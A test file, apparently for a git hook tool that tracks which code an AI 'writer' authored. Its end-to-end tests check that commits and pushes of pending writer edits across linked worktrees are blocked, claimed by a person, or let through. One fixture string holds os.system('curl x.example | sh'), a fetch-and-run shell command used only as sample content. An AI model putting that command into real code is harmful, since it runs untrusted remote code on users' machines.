"""A person's same fix by hand in a linked worktree, while the writer's fix of it is pending
in another (SPEC §3 "Attribution follows content", "Pending work ends cleanly"; issue 13,
refuter r13m f3, r13r LOW): real git, ``git worktree add``, ``gentle-hook install``, a bare
remote with the server gate.

The writer's edit ``a - b`` -> ``a + b`` of ``app.py`` is recorded and pending in worktree
A; a person in linked worktree B makes the same one-line fix (and a comment line of their
own) and commits. Content decides, so B's commit is blocked (the writer's edit); the
block prints a ``human:`` discard that, pasted in B, claims B's content of ``app.py`` as the
person's (a copy claim, :mod:`gentle_hooks.services.claims`): B's commit then passes with no
writer trailer, and the push from B, ``gate --range`` and the server gate let it through;
``status`` in B says what the gates do, before and after. The claim launders nothing: the
writer's entry stays pending, so A's commit of the same content is still blocked (and its
push, made with hooks off); B's content changed after the claim is judged again; and the
writer's further lines popped from a stash into B are the writer's.

B's file byte for byte the writer's blob is the writer's content, as it is in A while the
work is pending there (r13r LOW: the ``human:`` line claimed it, so a copy of the writer's
file into another worktree got through): no ``human:`` line is offered and a discard in B
is refused in one line; the work ended in A (taken out, discarded there) lets B's commit
through as the person's.
"""

from __future__ import annotations

from pathlib import Path

from tests.e2e.conftest import World

BASE = "import os\n\n\ndef add(a, b):\n    return a - b\n\n\ndef main():\n    print('hi')\n"
FIXED = BASE.replace("a - b", "a + b")
OWN = "# add and main, checked by hand\n"  # a line of the person's own
BY_HAND = OWN + FIXED  # the same fix, and a line of their own
MORE = FIXED.replace("    print('hi')\n", "    print('hi')\n    os.system('curl x.example | sh')\n")


def fixed_in_both(native: World, text: str = BY_HAND) -> tuple[World, Path]:
    """``native`` served with ``app.py`` holding :data:`BASE`; the writer's fix pending in
    the main worktree (A); linked worktree ``b`` on branch ``hb`` where a person made the
    same fix by hand (``app.py`` holding ``text``)."""
    w = native.serve({"app.py": BASE})
    w.write("app.py", FIXED)
    r = w.gh("record", "--model", "m", "--effort", "low")
    assert r.code == 0, r
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "hb", str(b), "main")
    w.write("app.py", text, cwd=b)
    return w, b


def claimed_in(w: World, b: Path) -> None:
    """B's ``git commit -am`` is blocked, ``status`` in B says so, and the block's one
    ``human:`` line, pasted in B, claims B's content; ``status`` then says the gate does
    not apply. The writer's entry stays open."""
    assert "gate: applies (would block)" in w.gh("status", cwd=b).out
    blocked = w.git("commit", "-qam", "human: fix add", cwd=b)
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    offered = [s for s in blocked.said if "  human: " in s]
    assert len(offered) == 1 and " discard " in offered[0], blocked
    done = w.run(["sh", "-c", offered[0].split("human: ", 1)[1]], cwd=b)
    assert done.code == 0 and "claimed: the content app.py holds" in done.out, (offered, done)
    assert w.ledger("SELECT state FROM writer_entry") == [("open",)]
    assert "status: not delegated; the gate does not apply" in w.gh("status", cwd=b).out


def test_a_persons_same_fix_in_a_linked_worktree_is_claimed_there_and_delivered(
    native: World,
) -> None:
    """The r13m f3 repro: blocked in B with no way out that worked there; now the printed
    ``human:`` discard claims B's copy and B's commit is delivered, no trailer."""
    w, b = fixed_in_both(native)
    claimed_in(w, b)
    passed = w.git("commit", "-qam", "human: fix add", cwd=b)
    assert passed.code == 0, passed
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B", cwd=b)
    assert "status: not delegated" in w.gh("status", "--committed", cwd=b).out
    ci = w.gh("gate", "--range", "origin/main..HEAD", cwd=b)
    assert ci.code == 0, ci
    push = w.git("push", "origin", "hb", cwd=b)
    assert push.code == 0, push
    assert w.remote_ref("hb") == w.rev("HEAD", cwd=b)


def test_the_writers_content_in_its_own_worktree_still_blocks_after_the_claim(
    native: World,
) -> None:
    """The claim in B is B's: A's commit of the writer's content is blocked, with no
    discard offered there; committed in A with hooks off, its push from A is blocked; a
    third worktree C holding that very content (copied from A) is blocked too."""
    w, b = fixed_in_both(native)
    claimed_in(w, b)
    assert w.git("commit", "-qam", "human: fix add", cwd=b).code == 0
    c = w.base / "c"
    w.ok("worktree", "add", "-q", "-b", "hc", str(c), "main")
    w.write("app.py", FIXED, cwd=c)
    copied = w.git("commit", "-qam", "copied", cwd=c)
    assert copied.code == 1 and "BLOCKED the staged change" in copied.said[0], copied
    blocked = w.git("commit", "-qam", "writer: fix add")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    assert not [s for s in blocked.said if "human: " in s], blocked
    assert "gate: applies (would block)" in w.gh("status").out
    w.ok("commit", "-qam", "writer: fix add", "--no-verify")
    push = w.git("push", "origin", "main")
    assert push.code == 1 and "BLOCKED" in push.err, push
    assert w.remote_ref("main") != w.rev("HEAD")


def test_content_changed_in_the_linked_worktree_after_the_claim_is_judged_again(
    native: World,
) -> None:
    """The claim binds B's content when claimed: B's file changed since (still holding the
    writer's line) is blocked again."""
    w, b = fixed_in_both(native)
    claimed_in(w, b)
    w.write("app.py", BY_HAND + "\n\ndef sub(a, b):\n    return a - b\n", cwd=b)
    blocked = w.git("commit", "-qam", "human: fix add, and sub", cwd=b)
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked


def test_the_writers_lines_popped_from_a_stash_into_the_linked_worktree_still_block(
    native: World,
) -> None:
    """After B's claim of its own fix (committed there), the writer in A writes more
    (a shell call), ``git stash`` sets it aside in A, and ``git stash pop`` in B brings it
    there: B's commit of it is blocked as the writer's."""
    w, b = fixed_in_both(native)
    claimed_in(w, b)
    assert w.git("commit", "-qam", "human: fix add", cwd=b).code == 0
    w.write("app.py", MORE)
    assert w.gh("record", "--model", "m", "--effort", "low").code == 0
    w.ok("stash", "-q")
    w.ok("stash", "pop", "-q", cwd=b)
    assert (b / "app.py").read_text() == OWN + MORE
    blocked = w.git("commit", "-qam", "human: more", cwd=b)
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    assert "gate: applies (would block)" in w.gh("status", cwd=b).out


def test_the_writers_very_blob_in_the_linked_worktree_is_the_writers_until_its_work_ends(
    native: World,
) -> None:
    """B's ``app.py`` byte for byte the writer's: blocked with no ``human:`` line, the
    discard in B refused (exit 2, one line naming A); A takes its change out and discards
    it there: B's commit passes with no writer trailer and its push is accepted."""
    w, b = fixed_in_both(native, FIXED)
    blocked = w.git("commit", "-qam", "human: fix add", cwd=b)
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    assert not [s for s in blocked.said if "human: " in s], blocked
    refused = w.gh("discard", "--all", "--reason", "fixed by hand", cwd=b)
    assert refused.code == 2 and len(refused.err.splitlines()) == 1, refused
    assert "app.py: holds the writer's content byte for byte" in refused.err, refused
    assert f"(pending in {w.work})" in refused.err, refused
    assert w.ledger("SELECT state FROM writer_entry") == [("open",)]
    assert w.git("commit", "-qam", "human: fix add", cwd=b).code == 1
    w.ok("checkout", "--", "app.py")  # A's way out: the writer's change taken out there
    assert w.gh("discard", "--all", "--reason", "fixed by hand in b").code == 0
    passed = w.git("commit", "-qam", "human: fix add", cwd=b)
    assert passed.code == 0, passed
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B", cwd=b)
    push = w.git("push", "origin", "hb", cwd=b)
    assert push.code == 0, push
